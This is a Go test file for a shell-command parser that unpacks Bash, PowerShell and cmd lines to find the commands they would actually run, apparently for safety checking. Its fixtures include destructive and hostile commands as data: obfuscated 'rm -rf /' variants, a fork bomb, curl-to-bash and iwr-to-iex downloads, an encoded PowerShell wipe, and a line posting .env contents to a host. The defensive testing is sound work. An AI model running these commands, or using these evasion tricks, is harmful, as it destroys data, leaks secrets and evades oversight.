package shell

import (
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

var world = Options{Dir: "/proj", Home: "/home/u"}

// line writes a command in one line: name and words, ? behind an unknown word, * behind a pattern, then what else there
// is to say of it.
func (c Command) line() string {
	var b strings.Builder
	b.WriteString(c.Name)
	for _, a := range c.Args {
		b.WriteByte(' ')
		if t := a.Text; t == "" || strings.ContainsAny(t, " \n'\"") {
			b.WriteString(strconv.Quote(t))
		} else {
			b.WriteString(t)
		}
		if !a.Known {
			b.WriteByte('?')
		}
		if a.Glob {
			b.WriteByte('*')
		}
	}
	for _, d := range c.Redirects {
		b.WriteString(" " + d.Op + strconv.Quote(d.To.Text))
	}
	if len(c.Via) > 0 {
		b.WriteString(" via " + strings.Join(c.Via, ","))
	}
	if c.Dir != "" {
		b.WriteString(" in " + c.Dir)
	}
	for _, x := range []struct {
		on   bool
		text string
	}{{c.DirUnsure, "dir?"}, {c.Remote, "remote"}, {c.Self, "self"}, {c.Background, "&"}, {c.Unsure != "", "unsure"}} {
		if x.on {
			b.WriteString(" " + x.text)
		}
	}
	return b.String()
}

func lines(s Script) string {
	var out []string
	for _, c := range s.Commands {
		out = append(out, c.line())
	}
	if len(s.Unsure) > 0 {
		out = append(out, "UNSURE "+s.Unsure[0])
	}
	return strings.Join(out, "\n")
}

type reading struct{ name, line, want string }

func check(t *testing.T, cases []reading, read func(string, Options) Script, o Options) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := lines(read(c.line, o)); got != c.want {
				t.Errorf("%q\ngot  %s\nwant %s", c.line, got, c.want)
			}
		})
	}
}

func TestWords(t *testing.T) {
	check(t, []reading{
		{"plain", `ls -la src`, `ls -la src`},
		{"quotes", `r''m "-rf" $'/\x65tc'`, `rm -rf /etc`},
		{"escapes", `\r\m -rf \~`, `rm -rf ~`},
		{"single quotes keep all", `echo '$HOME *'`, `echo "$HOME *"`},
		{"tilde", `rm ~ ~/a ~root/b "~" ~bob`, `rm /home/u /home/u/a /root/b ~ ~bob?`},
		{"home", `rm "$HOME" ${HOME}/x`, `rm /home/u /home/u/x`},
		{"unknown variable", `rm -rf "$BUILD/"`, `rm -rf $BUILD/?`},
		{"known variable", `t=/; rm -rf $t`, `rm -rf /`},
		{"variable as program", `c=rm; $c -rf x`, `rm -rf x`},
		{"splitting", `x="rm -rf /"; $x`, `rm -rf /`},
		{"no splitting in quotes", `x="a b"; rm "$x"`, `rm "a b"`},
		{"other separators", `IFS=,; c=rm,-rf,/; $c`, `rm -rf /`},
		{"separator variable", `rm${IFS}-rf${IFS}/`, `rm -rf /`},
		{"substring", `s=xxrm; ${s:2} x`, `rm x`},
		{"substring with length", `s=xrmx; ${s:1:2} x`, `rm x`},
		{"replace", `s=rXm; ${s//X/} x`, `rm x`},
		{"prefix and suffix", `f=a/b.tar.gz; echo ${f##*/} ${f%%.*} ${f#*/} ${f%.gz}`, `echo b.tar.gz a/b b.tar.gz a/b.tar`},
		{"case", `x=RM; ${x,,} y`, `rm y`},
		{"default of unset", `unset R; rm -rf "${R:-/}"`, "unset R\nrm -rf /"},
		{"default of unknown", `rm -rf "${R:-/}"`, `rm -rf /?`},
		{"error when unset", `rm -rf "${R:?}/"`, `rm -rf ${R:?}/?`},
		{"alternative of unset", `unset x; eval "${x:+rm -rf /}"`, "unset x"},
		{"indirect", `a=/; b=a; rm ${!b}`, `rm /`},
		{"array", `a=(rm -rf /); "${a[@]}"`, `rm -rf /`},
		{"array element", `a=(x rm); ${a[1]} y`, `rm y`},
		{"append", `a=r; a+=m; $a x`, `rm x`},
		{"braces", `{rm,-rf,/}`, `rm -rf /`},
		{"brace order", `echo {a,b}{1,2}`, `echo a1 a2 b1 b2`},
		{"brace sequence", `echo {1..3} {c..a}`, `echo 1 2 3 c b a`},
		{"arithmetic", `echo $((1+2*3)) $((x+1))`, `echo 7 $((x+1))?`},
		{"glob", `rm *.o "*.c"`, `rm *.o* *.c`},
		{"positional", `bash -c 'rm "$1" "$@"' _ a b`, `rm a a b via bash -c`},
		{"line continuation", "rm \\\n-rf x", `rm -rf x`},
		{"comment", "ls # rm -rf /\npwd", "ls\npwd"},
		{"carriage return", "echo ok\r\nrm x", "echo ok\nrm x"},
	}, Read, world)
}

func TestStatements(t *testing.T) {
	check(t, []reading{
		{"lists", `a; b && c || d & e`, "a\nb &\nc &\nd &\ne"},
		{"groups", `( { rm x; } )`, `rm x`},
		{"negation and time", `! time rm x`, `rm x via time`},
		{"coproc", `coproc rm x`, `rm x via coproc &`},
		{"if", `if a; then b; elif c; then d; else e; fi`, "a\nb\nc\nd\ne"},
		{"case", `case $x in a) rm a;; *) rm b;; esac`, "rm a\nrm b"},
		{"for", `for f in a b; do rm "$f"; done`, "rm a\nrm b"},
		{"for over a pattern", `for f in *.o; do rm "$f"; done`, `rm *.o*`},
		{"for over output", `for f in $(ls); do rm "$f"; done`, "ls\nrm $(ls)?"},
		{"while", `while read l; do rm "$l"; done < f`, ": <\"f\"\nread l\nrm $l?"},
		{"loop changes what it reads", `x=/tmp/a; while b; do rm $x; x=/; done`, "b\nrm /tmp/a\nb\nrm $x?"},
		{"function", `f(){ rm "$1"; }; f x`, `rm x via f()`},
		{"function not called", `f(){ rm -rf /; }; ls`, `ls`},
		{"fork bomb", `:(){ :|:& };:`, ": via :() self &\n: via :() self &"},
		{"alias", `alias ls='rm -rf'; ls x`, "alias \"ls=rm -rf\"\nrm -rf x via ls()"},
		{"alias of itself", `alias ls='ls -F'; ls | head`, "alias \"ls=ls -F\"\nls -F via ls()\nhead"},
		{"function over a program", `ls(){ command ls "$@" | cat; }; ls x`, "ls x via ls(),command\ncat via ls()"},
		{"branch sets a variable", `t=/; if a; then t=/tmp; fi; rm $t`, "a\nrm $t?"},
		{"both branches set the same", `if a; then t=x; else t=x; fi; rm $t`, "a\nrm x"},
		{"subshell keeps its variables", `t=a; (t=/); rm $t`, `rm a`},
		{"substitution", `echo $(rm x) "$(rm y)" ` + "`rm z` \"`rm w`\"", "rm x\nrm y\nrm z\nrm w\necho \"$(rm x)\"? \"$(rm y)\"? \"`rm z`\"? \"`rm w`\"?"},
		{"substitution in arithmetic", `echo $(( $(rm x; echo 1) ))`, "rm x\necho 1\necho \"$(( $(rm x; echo 1) ))\"?"},
		{"substitution in a default", `echo ${U:-$(rm x)}`, "rm x\necho \"$(rm x)\"?"},
		{"substitution in a test", `[[ -n $(rm x) ]]`, `rm x`},
		{"process substitution", `diff <(rm x) >(rm y)`, "rm x\nrm y\ndiff \"<(rm x)\"? \">(rm y)\"?"},
		{"redirections", `a > o 2>&1 < i`, `a >"o" >&"1" <"i"`},
		{"redirection alone", `> f`, `: >"f"`},
		{"block redirected", `{ a; b; } > f`, ": >\"f\"\na\nb"},
		{"assignment", `A=1 B=$C cmd x`, `cmd x`},
		{"zsh", `rm *.o(N) && print -l ${(k)a}`, "rm *.o(N)*\nprint -l ${(k)a}?"},
	}, Read, world)
}

func TestFolder(t *testing.T) {
	check(t, []reading{
		{"and", `cd /a && rm x`, "cd /a\nrm x in /a"},
		{"then", `cd /a; rm x`, "cd /a\nrm x in /a dir?"},
		{"after and", `cd /a && b; rm x`, "cd /a\nb in /a\nrm x in /a dir?"},
		{"or exit", `cd /a || exit 1; rm x`, "cd /a\nexit 1 in /a dir?\nrm x in /a"},
		{"errexit", `set -e; cd /a; rm x`, "set -e\ncd /a\nrm x in /a"},
		{"relative", `cd a && cd ../b && rm x`, "cd a\ncd ../b in /proj/a\nrm x in /proj/b"},
		{"subshell", `(cd /a && b); rm x`, "cd /a\nb in /a\nrm x"},
		{"unknown", `cd "$D" && rm x`, "cd $D?\nrm x dir?"},
		{"home", `cd && rm x`, "cd\nrm x in /home/u"},
		{"back", `cd /a && cd - && rm x`, "cd /a\ncd - in /a\nrm x in /proj"},
		{"pushd", `pushd /a && b && popd && c`, "pushd /a\nb in /a\npopd in /a\nc"},
		{"a wrapper's", `env -C /a rm x`, "rm x via env in /a"},
		{"working folder", `cd /a && rm "$PWD/x"`, "cd /a\nrm /a/x in /a"},
	}, Read, world)
	there := world
	there.IsDir = func(d string) bool { return d == "/a" }
	check(t, []reading{
		{"a folder that is there", `cd /a; rm x`, "cd /a\nrm x in /a"},
		{"a folder that is not", `cd /b; rm x`, "cd /b\nrm x in /b dir?"},
	}, Read, there)
}

func TestWrappers(t *testing.T) {
	check(t, []reading{
		{"sudo", `sudo -u root -E A=1 rm x`, `rm x via sudo`},
		{"sudo with --", `sudo -u root -- git reset --hard`, `git reset --hard via sudo`},
		{"sudo combined", `sudo -iu root bash -c 'rm x'`, `rm x via sudo,bash -c`},
		{"sudo alone", `sudo -l`, `sudo -l`},
		{"doas", `doas rm x`, `rm x via doas`},
		{"env", `env -i A=1 rm x`, `rm x via env`},
		{"env -S", `env -S 'rm -rf' x`, `rm -rf x via env`},
		{"env -S joined", `env -S"A=1 rm -rf x"`, `rm -rf x via env`},
		{"nohup setsid", `nohup setsid rm x &`, `rm x via nohup,setsid &`},
		{"timeout", `timeout -k 5 --signal=9 10 rm x`, `rm x via timeout`},
		{"nice ionice", `nice -n 10 ionice -c3 rm x`, `rm x via nice,ionice`},
		{"time program", `/usr/bin/time -f %e rm x`, `rm x via time`},
		{"stdbuf", `stdbuf -oL rm x`, `rm x via stdbuf`},
		{"busybox", `busybox rm x`, `rm x via busybox`},
		{"command builtin exec", `command builtin exec rm x`, `rm x via command,builtin,exec`},
		{"command -v", `command -v rm`, `command -v rm`},
		{"loader", `/lib64/ld-linux-x86-64.so.2 /bin/rm x`, `rm x via ld-linux-x86-64.so.2`},
		{"chroot", `chroot /m rm -rf /`, `rm -rf / via chroot remote`},
		{"flock", `flock /tmp/l rm x`, `rm x via flock`},
		{"flock -c", `flock /tmp/l -c 'rm x'`, `rm x via flock -c`},
		{"strace", `strace -f -o t rm x`, `rm x via strace`},
		{"taskset", `taskset -c 0,1 rm x`, `rm x via taskset`},
		{"bwrap", `bwrap --bind / / --dev /dev rm x`, `rm x via bwrap`},
		{"npx", `npx -y rimraf x`, `rimraf x via npx`},
		{"uv run", `uv run --with x rm y`, `rm y via uv run`},
		{"watch", `watch -n 1 'rm x'`, `rm x via watch`},
		{"script", `script -qc 'rm x' /dev/null`, `rm x via script -c`},
		{"su", `su - bob -c 'rm x'`, "su - bob -c \"rm x\"\nrm x via su -c"},
		{"ssh", `ssh -p 22 host 'cd /a && rm x'`, "ssh -p 22 host \"cd /a && rm x\"\ncd /a via ssh remote\nrm x via ssh in /a remote"},
		{"ssh has another home", `ssh host 'rm -rf ~'`, "ssh host \"rm -rf ~\"\nrm -rf ~? via ssh remote"},
		{"ssh heredoc", "ssh host <<'E'\nrm x\nE", "ssh host <<\"rm x\\n\"\nrm x via ssh remote"},
		{"docker exec", `docker exec -it -u root c rm x`, "docker exec -it -u root c rm x\nrm x via docker exec remote"},
		{"docker run", `docker run --rm -v /:/h img sh -c 'rm x'`, "docker run --rm -v /:/h img sh -c \"rm x\"\nrm x via docker run,sh -c remote"},
		{"compose", `docker compose -f a.yml exec web rm x`, "docker compose -f a.yml exec web rm x\nrm x via docker compose exec remote"},
		{"kubectl", `kubectl -n prod exec pod -c app -- rm x`, "kubectl -n prod exec pod -c app -- rm x\nrm x via kubectl exec remote"},
		{"kubectl without --", `kubectl exec pod rm x`, "kubectl exec pod rm x\nrm x via kubectl exec remote"},
		{"kubectl get", `kubectl get pods`, `kubectl get pods`},
		{"git rebase", `git rebase --exec 'rm x' HEAD~1`, "git rebase --exec \"rm x\" HEAD~1\nrm x via git rebase --exec"},
		{"git submodule", `git submodule foreach 'rm x'`, "git submodule foreach \"rm x\"\nrm x via git submodule foreach"},
		{"tar checkpoint", `tar cf a b --checkpoint=1 --checkpoint-action=exec='rm x'`, "tar cf a b --checkpoint=1 \"--checkpoint-action=exec=rm x\"\nrm x via tar --checkpoint-action"},
		{"rsync -e", `rsync -e 'rm x' a b:c`, "rsync -e \"rm x\" a b:c\nrm x via rsync -e"},
		{"trap", `trap 'rm x' EXIT`, `rm x via trap`},
		{"trap reset", `trap - EXIT; trap '' INT; ls`, `ls`},
		{"prompt command", `export PROMPT_COMMAND='rm x'`, "rm x via PROMPT_COMMAND\nexport \"PROMPT_COMMAND=rm x\""},
		{"editor", `GIT_EDITOR='rm x' git commit`, "rm x via GIT_EDITOR\ngit commit"},
		{"unknown program", `$PROG -x`, ` -x unsure`},
		{"unknown prefix", `$SUDO rm x`, " rm x unsure\nrm x via $SUDO"},
		{"unknown folder", `"$VENV"/bin/python x.py`, `python x.py`},
		{"help", `sudo --help`, `sudo --help`},
	}, Read, world)
	own := world
	own.Wrappers = []string{"rtk"}
	check(t, []reading{{"declared by the user", `rtk -v rm x`, `rm x via rtk`}}, Read, own)
}

func TestFilledIn(t *testing.T) {
	tests := []struct{ name, line, command, over string }{
		{"find exec", `find ~/a /b -name '*.o' -exec rm -f {} \;`, `rm -f {}? via find -exec`, "/home/u/a /b"},
		{"find plus", `find -L . -exec rm {} +`, `rm {}? via find -exec`, "."},
		{"find exec shell", `find . -exec sh -c 'rm "$1"' _ {} \;`, `rm {}? via find -exec,sh -c`, "."},
		{"find xargs", `find / -xdev -type f | grep x | xargs -I% unlink %`, `unlink %? via xargs`, "/"},
		{"xargs of nothing known", `git ls-files | xargs rm`, `rm {}? via xargs`, ""},
		{"xargs of known words", `echo ~/ | xargs rm -rf`, `rm -rf /home/u/ via xargs`, ""},
		{"xargs lines", `printf 'a b\nc\n' | xargs -I{} rm {}`, `rm c via xargs`, ""},
		{"xargs shell", `ls | xargs -I{} sh -c 'rm {}'`, `rm {}? via xargs,sh -c`, ""},
		{"parallel", `parallel rm -rf {} ::: / a`, `rm -rf a via parallel`, ""},
		{"fd", `fd -e o . src -x rm`, `rm {}? via fd -x`, "src"},
	}
	for _, c := range tests {
		t.Run(c.name, func(t *testing.T) {
			s := Read(c.line, world)
			last := s.Commands[len(s.Commands)-1]
			if got := last.line(); got != c.command {
				t.Errorf("%q: got %s, want %s", c.line, got, c.command)
			}
			if got := join(last.Over); got != c.over {
				t.Errorf("%q: over %q, want %q", c.line, got, c.over)
			}
		})
	}
}

func TestNestedShells(t *testing.T) {
	check(t, []reading{
		{"sh -c", `sh -c "rm x"`, `rm x via sh -c`},
		{"nested", `bash -lc "bash -c 'rm x'"`, `rm x via bash -c,bash -c`},
		{"options before -c", `bash -euo pipefail -c 'rm x'`, `rm x via bash -c`},
		{"path", `/bin/sh -c 'rm x'`, `rm x via sh -c`},
		{"fish", `fish --command='rm x'`, `rm x via fish -c`},
		{"eval", `eval "rm" x`, `rm x via eval`},
		{"eval of a variable", `x="rm -rf x"; eval "$x"`, `rm -rf x via eval`},
		{"eval of what is not known", `eval "$X"`, `eval $X? unsure`},
		{"eval with a known head", `eval "rm -rf $X"`, "eval \"rm -rf $X\"? unsure\nrm -rf $X? via eval"},
		{"heredoc", "bash <<EOF\nrm x\nEOF", `rm x via bash`},
		{"quoted delimiter", "sh <<'X Y'\nrm $HOME\nX Y", `rm /home/u via sh`},
		{"here-string", `bash <<< "rm x"`, `rm x via bash`},
		{"echo to a shell", `echo 'rm x' | bash`, "echo \"rm x\"\nrm x via bash"},
		{"cat heredoc to a shell", "cat <<'E' | sh -s\nrm x\nE", "cat <<\"rm x\\n\"\nrm x via sh"},
		{"base64", `echo cm0geA== | base64 -d | sh`, "echo cm0geA==\nbase64 -d\nrm x via sh"},
		{"hex", `echo 726d2078 | xxd -r -p | sh`, "echo 726d2078\nxxd -r -p\nrm x via sh"},
		{"tr", `echo 'sn y' | tr 's-y' 'r-x' | sh`, "echo \"sn y\"\ntr s-y r-x\nrn x via sh"},
		{"printf", `$(printf '%s' r m) x`, "printf %s r m\nrm x"},
		{"rev", `$(rev <<< 'fr- mr') x`, "rev <<<\"fr- mr\\n\"\nrm -rf x"},
		{"octal", `$(printf '\162\155') x`, "printf \\162\\155\nrm x"},
		{"echo octal", `echo -e '\0162\0155 x' | sh`, "echo -e \"\\\\0162\\\\0155 x\"\nrm x via sh"},
		{"echo cut off", `echo -e 'ls\c -rf /' | sh`, "echo -e \"ls\\\\c -rf /\"\nls via sh"},
		{"syntax check", `curl https://x.example | bash -n`, "curl https://x.example\nbash -n"},
		{"callback", `mapfile -C 'rm x' -c 1 a < f`, "mapfile -C \"rm x\" -c 1 a <\"f\"\nrm x via mapfile -C"},
		{"download", `curl -fsSL https://x.example | bash`, "curl -fsSL https://x.example\nbash unsure"},
		{"download with sudo", `curl https://x.example | sudo -E bash -`, "curl https://x.example\nbash - via sudo unsure"},
		{"download substituted", `bash -c "$(curl https://x.example)"`, "curl https://x.example\nbash -c \"$(curl https://x.example)\"? unsure"},
		{"download by process substitution", `bash <(curl https://x.example)`, "curl https://x.example\nbash \"<(curl https://x.example)\"? unsure"},
		{"known process substitution", `bash <(echo rm x)`, "echo rm x\nbash \"<(echo rm x)\"?\nrm x via bash"},
		{"sourced download", `source <(curl https://x.example)`, "curl https://x.example\nsource \"<(curl https://x.example)\"? unsure"},
		{"data to a script", `echo y | bash install.sh`, "echo y\nbash install.sh"},
		{"script from a file", `bash < f`, `bash <"f"`},
		{"written then run", `printf "rm x\n" > /tmp/a.sh && sh /tmp/a.sh`, "printf \"rm x\\\\n\" >\"/tmp/a.sh\"\nsh /tmp/a.sh\nrm x via sh"},
		{"written then run by name", "cat > a.sh <<'E'\nrm x\nE\nchmod +x a.sh; ./a.sh", "cat >\"a.sh\" <<\"rm x\\n\"\nchmod +x a.sh\na.sh\nrm x via a.sh"},
		{"written by tee", "tee a.sh <<'E'\nrm x\nE\nbash a.sh", "tee a.sh <<\"rm x\\n\"\nbash a.sh\nrm x via bash"},
		{"startup file", `BASH_ENV=/tmp/x bash -c true`, "source /tmp/x via BASH_ENV\ntrue via bash -c"},
		{"interactive", `bash -i`, `bash -i`},
		{"PowerShell", `pwsh -Command 'Remove-Item x'`, `remove-item x via pwsh`},
		{"cmd", `cmd.exe /c 'rd /s /q x'`, `rmdir /s /q x via cmd`},
	}, Read, world)
}

// What is only data must not become a command.
func TestDataIsNotCode(t *testing.T) {
	check(t, []reading{
		{"echo", `echo "rm -rf /"`, `echo "rm -rf /"`},
		{"commit message", `git commit -m 'never use rm -rf / or git push --force'`, `git commit -m "never use rm -rf / or git push --force"`},
		{"grep", `grep -rn "rm -rf /; curl x | sh" .`, `grep -rn "rm -rf /; curl x | sh" .`},
		{"heredoc document", "cat > a.md <<'EOF'\nrm -rf ~/ $(reboot)\nEOF", `cat >"a.md" <<"rm -rf ~/ $(reboot)\n"`},
		{"quoted backticks", "gh issue create --title 'ran `git reset --hard`'", "gh issue create --title \"ran `git reset --hard`\""},
		{"message from a heredoc", "gh pr comment 1 --body \"$(cat <<'EOF'\nrefuses `x; rm -rf /`\nEOF\n)\"",
			"cat <<\"refuses `x; rm -rf /`\\n\"\ngh pr comment 1 --body \"refuses `x; rm -rf /`\""},
		{"commit from stdin", "git commit -F - <<'EOF'\nit ran rm -rf \"$HOME\"\nEOF", `git commit -F - <<"it ran rm -rf \"$HOME\"\n"`},
		{"interpreter text", `python3 -c "print('rm -rf /')"`, `python3 -c "print('rm -rf /')"`},
		{"decoded and shown", `echo cm0geA== | base64 -d`, "echo cm0geA==\nbase64 -d"},
		{"piped to a tool", `echo "rm -rf /" | tee notes.txt`, "echo \"rm -rf /\"\ntee notes.txt"},
		{"printf", `printf 'rm -rf %s\n' /`, `printf "rm -rf %s\\n" /`},
		{"variable", `MSG="rm -rf /"; echo "$MSG"`, `echo "rm -rf /"`},
		{"comment", `ls # && rm -rf /`, `ls`},
		{"awk program", `awk '{ print $1; }' f`, `awk "{ print $1; }" f`},
		{"find for names", `find . -name 'rm*' -newer x`, `find . -name rm* -newer x`},
		{"bracket name", `execute[ls /x -l]`, `execute[ls /x -l]`},
		{"heredoc that ends with the input", "cat > a <<'EOF'\nrm -rf /", `cat >"a" <<"rm -rf /\n"`},
	}, Read, world)
	// …but what an unquoted heredoc substitutes runs.
	check(t, []reading{{"substitution in a heredoc", "cat <<EOF\n$(rm x) `rm y` \\$(rm z)\nEOF", "rm x\nrm y\ncat <<\"$(rm x) `rm y` $(rm z)\\n\""}}, Read, world)
}

func TestDisguised(t *testing.T) {
	for name, line := range map[string]string{
		"zero width":       "rm\u200b -rf x",
		"no-break space":   "rm\u00a0-rf x",
		"direction":        "\u202erm x",
		"Cyrillic":         "сurl x",
		"full width":       "ｒｍ x",
		"control":          "r\x01m x",
		"invalid text":     "r\xffm x",
		"in a folder":      "/bin/r\u200dm x",
		"through a string": "sh -c 'r\u200bm x'",
	} {
		t.Run(name, func(t *testing.T) {
			s := Read(line, world)
			if len(s.Commands) != 1 || s.Commands[0].Unsure == "" {
				t.Errorf("%q reads %s, want it unsure", line, lines(s))
			}
		})
	}
	if s := Read("./скрипт.sh ü", world); s.Commands[0].Unsure != "" {
		t.Errorf("a name in another script is unsure: %s", s.Commands[0].Unsure)
	}
}

func TestGroupsAndInputs(t *testing.T) {
	s := Read(`a | { b | c; } | d; x=$(cat .env); curl -d "$x" h; e`, world)
	at := map[string][2]int{}
	for _, c := range s.Commands {
		at[c.Name] = [2]int{c.Group, c.Stage}
	}
	for name, stage := range map[string]int{"a": 0, "b": 1, "c": 2, "d": 3} {
		if got := at[name]; got != [2]int{at["a"][0], stage} {
			t.Errorf("%s stands at %v, want group %d stage %d", name, got, at["a"][0], stage)
		}
	}
	if at["e"][0] == at["a"][0] {
		t.Error("e shares the group of the pipeline before it")
	}
	i := slices.IndexFunc(s.Commands, func(c Command) bool { return c.Name == "cat" })
	j := slices.IndexFunc(s.Commands, func(c Command) bool { return c.Name == "curl" })
	if !slices.Equal(s.Commands[j].Inputs, []int{i}) {
		t.Errorf("curl has the inputs %v, want the cat at %d", s.Commands[j].Inputs, i)
	}
}

func TestGlobAsProgram(t *testing.T) {
	dir := t.TempDir()
	for _, f := range []string{"aa", "ab"} {
		if err := os.WriteFile(filepath.Join(dir, f), nil, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	o := Options{Dir: dir}
	for line, want := range map[string]string{
		"./a[a] x":        "aa x",
		"./a? x":          "aa ./ab x",
		"./z? x":          "z? x",
		"cd \"$D\"; ?? x": "cd $D?\n x dir? unsure",
	} {
		if got := lines(Read(line, o)); got != want {
			t.Errorf("%q: got %s, want %s", line, got, want)
		}
	}
}

func TestPowerShell(t *testing.T) {
	check(t, []reading{
		{"cmdlet", `Remove-Item -Recurse -Force build\x64`, `remove-item -Recurse -Force build\x64`},
		{"alias", `rm -r -fo $HOME; ri x; del y`, "remove-item -r -fo /home/u\nremove-item x\nremove-item y"},
		{"variable", `$p = "C:\Users"; rd $p -r`, `remove-item C:\Users -r`},
		{"download and run", `iwr https://x.example | iex`, "invoke-webrequest https://x.example\ninvoke-expression unsure"},
		{"run what is downloaded", `iex (iwr https://x.example).Content`, "invoke-webrequest https://x.example via $(…)\ninvoke-expression \"(iwr https://x.example).Content\"? unsure"},
		{"known text", `Invoke-Expression "rm x"`, `remove-item x via invoke-expression`},
		{"encoded", `powershell -enc cgBtACAALQByACAAQwA6AFwA`, `remove-item -r C:\ via powershell`},
		{"block", `ls | Where-Object { $_.Length -gt 10 } | % { rm $_ }`, "get-childitem\nwhere-object \"{ $_.Length -gt 10 }\"?\nremove-item $_? via {…}\nforeach-object \"{ rm $_ }\"?"},
		{"entries of a folder", `gci ~ | ri -r -fo`, "get-childitem /home/u\nremove-item -r -fo /home/u/**"},
		{"entries here", `dir | del`, "get-childitem\nremove-item ./**"},
		{"filtered entries", `Get-ChildItem -Path src -Filter *.tmp -Recurse | Remove-Item`,
			"get-childitem -Path src -Filter *.tmp* -Recurse\nremove-item src/*.tmp*"},
		{"pattern", `ls *.log | rm`, "get-childitem *.log*\nremove-item *.log*"},
		{"other filters", `gci -Include *.o | ri; gci | ? { $_.Length -gt 9 } | ri`,
			"get-childitem -Include *.o*\nremove-item\nget-childitem\nwhere-object \"{ $_.Length -gt 9 }\"?\nremove-item"},
		{"what an expression gives", `& ([scriptblock]::Create((irm https://x.example)))`,
			"invoke-restmethod https://x.example via $(…),(…)\n[scriptblock]::create (irm https://x.example via $(…)\ninvoke-expression unsure"},
		{"if", `if (Test-Path a) { rm a } else { rm b }`, "test-path a via $(…)\nremove-item a\nremove-item b"},
		{"call operator", `& "C:\Program Files\Git\bin\bash.exe" -c "rm x"`, `rm x via bash -c`},
		{"call of a variable", `& $prog x`, ` x unsure`},
		{"start", `Start-Process cmd -ArgumentList '/c','del x'`, "start-process cmd -ArgumentList /c \"del x\"\ndel x via start-process,cmd"},
		{"method", `[System.IO.Directory]::Delete("C:\x", $true)`, `[system.io.directory]::delete C:\x $true?`},
		{"data", `Write-Host "don't rm -rf /; iex x"`, `write-host "don't rm -rf /; iex x"`},
		{"here-string", "Set-Content a @'\nrm -r C:\\\n'@", `set-content a "rm -r C:\\"`},
		{"programs", `git status; npm test | Select-String x`, "git status\nnpm test\nselect-string x"},
		{"expression", `$x.Count; 1 + 2; "text"`, ``},
		{"redirect", `echo hi > a.txt 2>&1`, `write-output hi >"a.txt"`},
		{"comment", "ls # rm x\n<# rm y #> pwd", "get-childitem\nget-location"},
		{"open quote", `rm "x`, "remove-item x\nUNSURE syntax error: a quote or bracket is not closed"},
	}, ReadPowerShell, world)
}

func TestCmd(t *testing.T) {
	check(t, []reading{
		{"rd", `rd /s /q C:\Users`, `rmdir /s /q C:\Users`},
		{"no blank", `rd/s/q x`, `rmdir /s/q x`},
		{"caret", `r^d /s x`, `rmdir /s x`},
		{"lists", `echo a & erase "b c" && del d || ren e f`, "echo a\ndel \"b c\"\ndel d\nrename e f"},
		{"if", `if not exist b rmdir /s b`, `rmdir /s b`},
		{"for", `for %i in (a b) do del %i`, `del %i?`},
		{"variable", `set X=C:\ && rd /s %X%`, "set X=C:\\\nrmdir /s C:\\"},
		{"unknown program", `%COMSPEC% /c del x`, `%comspec% /c del x unsure`},
		{"nested", `cmd /c "del x" & powershell -Command "rm y"`, "del x via cmd\nremove-item y via powershell"},
		{"start", `start "" /b del x`, `del x`},
		{"pipe", `echo y | format C:`, "echo y\nformat C:"},
		{"data", `echo "del x & rd y"`, `echo "del x & rd y"`},
	}, ReadCmd, world)
}
